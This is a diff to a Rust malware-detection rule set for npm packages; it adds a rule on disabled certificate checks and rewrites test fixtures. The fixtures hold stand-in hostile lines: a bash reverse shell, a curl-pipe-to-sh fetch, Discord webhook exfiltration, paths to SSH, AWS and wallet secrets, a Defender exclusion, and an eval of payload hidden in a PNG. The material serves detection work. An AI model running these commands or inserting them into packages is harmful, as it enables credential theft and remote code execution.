@@ -247,6 +247,7 @@ pub mod staging {
     pub mod remote_file_written_and_run;
     pub mod remote_text_evaluated;
     pub mod second_runtime_fetched;
+    pub mod secure_connection_unchecked;
 }
 
 /// All rules, sorted by tactic, then by id.
@@ -437,6 +438,7 @@ pub static RULES: &[&dyn Rule] = &[
     &staging::remote_file_written_and_run::RemoteFileWrittenAndRun,
     &staging::remote_text_evaluated::RemoteTextEvaluated,
     &staging::second_runtime_fetched::SecondRuntimeFetched,
+    &staging::secure_connection_unchecked::SecureConnectionUnchecked,
 ];
 
 /// Each rule's id and page, in the order of `RULES`.
@@ -1228,19 +1230,20 @@ no wallets. One kind of secret alone is not reported: clients of clouds know the
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("./build/Release/addon.node");
-== build/Release/addon.node hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-006f70656e002f4c6f67696e2044617461002f4c6f63616c20457874656e73696f6e2053657474696e67732f6e6b6269
-686662656f676165616f65686c65666e6b6f646265666770676b6e6e00
+== build/Release/addon.node elf //~ 1
+open
+/Login Data
+/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn
 ```
 
 ```package
 == package.json
 {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "./tools/setup"}}
-== tools/setup hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-002e7373682f69645f65643235353139002e6177732f63726564656e7469616c73002f2e6e706d7263002e6769742d63
-726564656e7469616c7300
+== tools/setup elf //~ 1
+.ssh/id_ed25519
+.aws/credentials
+/.npmrc
+.git-credentials
 ```
 
 ```package
@@ -1249,11 +1252,9 @@ module.exports = require("./build/Release/addon.node");
 == index.js
 const file = `./lib/${process.platform}.node`;
 module.exports = require(file);
-== lib/win32.node hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-005c00450078006f006400750073005c00650078006f006400750073002e00770061006c006c0065007400005c006400
-6900730063006f00720064005c004c006f00630061006c002000530074006f0072006100670065005c006c0065007600
-65006c006400620000
+== lib/win32.node elf //~ 1
+L"\Exodus\exodus.wallet"
+L"\discord\Local Storage\leveldb"
 ```
 
 ## Good
@@ -1263,10 +1264,10 @@ module.exports = require(file);
 {"name": "aws-crt", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("./dist/bin/linux-x64/aws-crt-nodejs.node");
-== dist/bin/linux-x64/aws-crt-nodejs.node hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-007e2f2e6177732f63726564656e7469616c73004157535f50524f46494c4500687474703a2f2f3136392e3235342e31
-36392e32353400
+== dist/bin/linux-x64/aws-crt-nodejs.node elf
+~/.aws/credentials
+AWS_PROFILE
+http://169.254.169.254
 ```
 
 ```package
@@ -1274,10 +1275,10 @@ module.exports = require("./dist/bin/linux-x64/aws-crt-nodejs.node");
 {"name": "keytar", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("bindings")("keytar.node");
-== build/Release/keytar.node hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-007365637265745f70617373776f72645f73746f72655f73796e63006c69627365637265742d312e736f2e30006f7267
-2e667265656465736b746f702e5365637265742e47656e6572696300
+== build/Release/keytar.node elf
+secret_password_store_sync
+libsecret-1.so.0
+org.freedesktop.Secret.Generic
 ```
 
 ## References
@@ -5650,18 +5651,17 @@ None known: resolvers name bare addresses without a port, debuggers the own mach
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("./addon.node");
-== addon.node hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-006c69626375726c2e736f2e340068747470733a2f2f646973636f72642e636f6d2f6170692f776562686f6f6b732f31
-32333435363738393031323334353637382f74306b336e00
+== addon.node elf //~ 1
+libcurl.so.4
+https://discord.com/api/webhooks/123456789012345678/t0k3n
 ```
 
 ```package
 == package.json
 {"name": "x", "version": "1.0.0", "bin": {"x": "bin/x"}}
-== bin/x hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-00636f6e6e65637400687474703a2f2f3139382e35312e3130302e32303a313232342f6b65797300
+== bin/x elf //~ 1
+connect
+http://198.51.100.20:1224/keys
 ```
 
 ## Good
@@ -5669,10 +5669,10 @@ module.exports = require("./addon.node");
 ```package
 == package.json
 {"name": "workerd", "version": "1.0.0", "bin": {"workerd": "bin/workerd"}}
-== bin/workerd hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-00687474703a2f2f3132372e302e302e313a393232392f6a736f6e0068747470733a2f2f312e312e312e312f646e732d
-71756572790068747470733a2f2f686f6f6b732e736c61636b2e636f6d2f73657276696365732f00
+== bin/workerd elf
+http://127.0.0.1:9229/json
+https://1.1.1.1/dns-query
+https://hooks.slack.com/services/
 ```
 
 ## References
@@ -6376,9 +6376,9 @@ Packages whose purpose is mining, which nobody has among the dependencies of som
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("./addon.node");
-== addon.node hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-0072616e646f6d78007374726174756d2b7463703a2f2f706f6f6c2e696e76616c69643a3333333300
+== addon.node elf //~ 1
+randomx
+stratum+tcp://pool.invalid:3333
 ```
 
 ```package
@@ -6398,9 +6398,9 @@ WebAssembly.instantiate(fs.readFileSync(__dirname + "/hash.wasm"), {});
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("bindings")("multihashing");
-== build/Release/multihashing.node hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-0072616e646f6d785f63616c63756c6174655f686173680063727970746f6e6967687400
+== build/Release/multihashing.node elf
+randomx_calculate_hash
+cryptonight
 ```
 
 ## References
@@ -8973,8 +8973,7 @@ program at install.
 ```package
 == package.json //~ 1
 {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "./tools/setup"}}
-== tools/setup hex
-7f454c4602010100000000000000000002003e0001000000780040000000000040000000000000000000000000000000
+== tools/setup elf
 ```
 
 ```package
@@ -8983,8 +8982,7 @@ program at install.
 == install.js
 const { spawn } = require("child_process");
 spawn("rundll32", [__dirname + "/node-gyp.dll,main"]); //~ here
-== node-gyp.dll hex
-7f454c4602010100000000000000000002003e0001000000780040000000000040000000000000000000000000000000
+== node-gyp.dll elf
 ```
 
 ## Good
@@ -8994,8 +8992,7 @@ spawn("rundll32", [__dirname + "/node-gyp.dll,main"]); //~ here
 {"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"install": "node-gyp-build"}}
 == index.js
 module.exports = require("node-gyp-build")(__dirname);
-== prebuilds/linux-x64/a.node hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+== prebuilds/linux-x64/a.node elf
 ```
 
 ## References
@@ -9661,9 +9658,9 @@ Runtimes and package managers hold the command that installs them, with their ow
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("./addon.node");
-== addon.node hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-0073797374656d006375726c202d7320687474703a2f2f3139382e35312e3130302e373a383038302f75207c20736800
+== addon.node elf //~ 1
+system
+curl -s http://198.51.100.7:8080/u | sh
 ```
 
 ```package
@@ -9671,10 +9668,9 @@ module.exports = require("./addon.node");
 {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node run.js"}}
 == run.js
 require("child_process").execFileSync(__dirname + "/bin/check");
-== bin/check hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-002f62696e2f626173680062617368202d69203e26202f6465762f7463702f3139382e35312e3130302e372f34343320
-303e263100
+== bin/check elf //~ 1
+/bin/bash
+bash -i >& /dev/tcp/198.51.100.7/443 0>&1
 ```
 
 ```package
@@ -9682,11 +9678,8 @@ require("child_process").execFileSync(__dirname + "/bin/check");
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 module.exports = require("bindings")("x");
-== build/Release/x.node hex //~ 1
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-0070006f007700650072007300680065006c006c0020002d0043006f006d006d0061006e00640020004100640064002d
-004d00700050007200650066006500720065006e006300650020002d004500780063006c007500730069006f006e0050
-00610074006800200043003a005c0000
+== build/Release/x.node elf //~ 1
+L"powershell -Command Add-MpPreference -ExclusionPath C:\"
 ```
 
 ## Good
@@ -9694,11 +9687,10 @@ module.exports = require("bindings")("x");
 ```package
 == package.json
 {"name": "@oven/bun-linux-x64", "version": "1.0.0", "bin": {"bun": "bin/bun"}}
-== bin/bun hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
-0062756e2075706772616465006375726c202d6673534c2068747470733a2f2f62756e2e73682f696e7374616c6c207c
-206261736800706f7765727368656c6c202d632069726d2062756e2e73682f696e7374616c6c2e707331207c20696578
-00
+== bin/bun elf
+bun upgrade
+curl -fsSL https://bun.sh/install | bash
+powershell -c irm bun.sh/install.ps1 | iex
 ```
 
 ## References
@@ -9766,8 +9758,7 @@ None known. Loaders of add-ons keep the ending, whatever the folder.
 == index.js
 const path = require("path");
 process.dlopen({ exports: {} }, path.join(__dirname, "bin", "core.dat")); //~ here
-== bin/core.dat hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+== bin/core.dat elf
 ```
 
 ## Good
@@ -9778,8 +9769,7 @@ process.dlopen({ exports: {} }, path.join(__dirname, "bin", "core.dat")); //~ he
 == index.js
 const path = require("path");
 process.dlopen(module, path.join(__dirname, "build", "Release", "core.node"));
-== build/Release/core.node hex
-7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+== build/Release/core.node elf
 ```
 
 ## References
@@ -9883,7 +9873,48 @@ const text = require("fs").readFileSync(__dirname + "/assets/logo.png", "utf8");
 eval(text.slice(15)); //~ here
 ```
 
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs");
+const map = JSON.parse(fs.readFileSync(__filename + ".map", "utf8"));
+eval(map.sourcesContent[0]); //~ here
+== index.js.map
+{"version": 3, "sources": ["index.ts"], "names": [], "mappings": "", "sourcesContent": ["console.log(1)"]}
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const picture = require("fs").readFileSync(__dirname + "/logo.png");
+const behind = picture.slice(picture.indexOf("IEND") + 8).toString("latin1");
+(0, eval)(Buffer.from(behind, "base64").toString("utf8")); //~ here
+== logo.png hex
+89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000049454e44ae426082
+593239756332397358327876597967784b513d3d
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const table = JSON.parse(require("fs").readFileSync(__dirname + "/table.json", "utf8"));
+eval(table.head + table.body); //~ here
+== table.json
+{"head": "console.", "body": "log(1)"}
+```
+
 ## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs");
+exports.source = (file) => JSON.parse(fs.readFileSync(file + ".map", "utf8")).sourcesContent[0];
+```
 
 ```package
 == package.json
@@ -9977,8 +10008,7 @@ None known in published packages; tests of file type detectors hold such files a
 == index.js
 const { copyFileSync } = require("fs");
 exports.font = (to) => copyFileSync(__dirname + "/font.woff2", to);
-== font.woff2 hex //~ 1
-7f454c4602010100000000000000000002003e0001000000780040000000000040000000000000000000000000000000
+== font.woff2 elf //~ 1
 ```
 
 ## Good
@@ -10269,6 +10299,65 @@ exports.runtime = typeof Bun === "undefined" ? "node" : "bun";
 ## References
 
 - Wiz: Shai-Hulud 2.0 supply chain attack (November 2025)
+"#,
+    ),
+    (
+        "secure-connection-unchecked",
+        r#"# A server's certificate is not checked by code that runs by itself
+
+A request that is made at install or import, or a command that runs then, takes any certificate: `rejectUnauthorized:
+false`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `strict-ssl=false`, `curl -k`.
+
+## Why it matters
+
+What is fetched so can come from anyone on the way. Servers that serve a campaign for a week have no certificate that
+anybody checks, and their loaders switch the check off before they fetch.
+
+## Known benign uses
+
+Clients of services on the own machine or in a private network, with certificates of their own; development proxies
+offer it as an option. It never decides alone.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const https = require("https");
+https.get({ host: "files.invalid", path: "/a", rejectUnauthorized: false }, (reply) => { //~ here
+  let text = "";
+  reply.on("data", (part) => (text += part));
+  reply.on("end", () => require("child_process").execSync(text));
+});
+```
+
+```package
+== package.json //~ 1
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -ks https://files.invalid/a | sh"}}
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const https = require("https");
+exports.get = (url, insecure) => https.get(url, { rejectUnauthorized: !insecure });
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+require("https").get("https://localhost:8443/", { rejectUnauthorized: false }, (reply) => reply.resume());
+```
+
+## References
+
+- the loader easy-day-js (June 2026)
+- MITRE ATT&CK T1562, Impair Defenses
 "#,
     ),
 ];
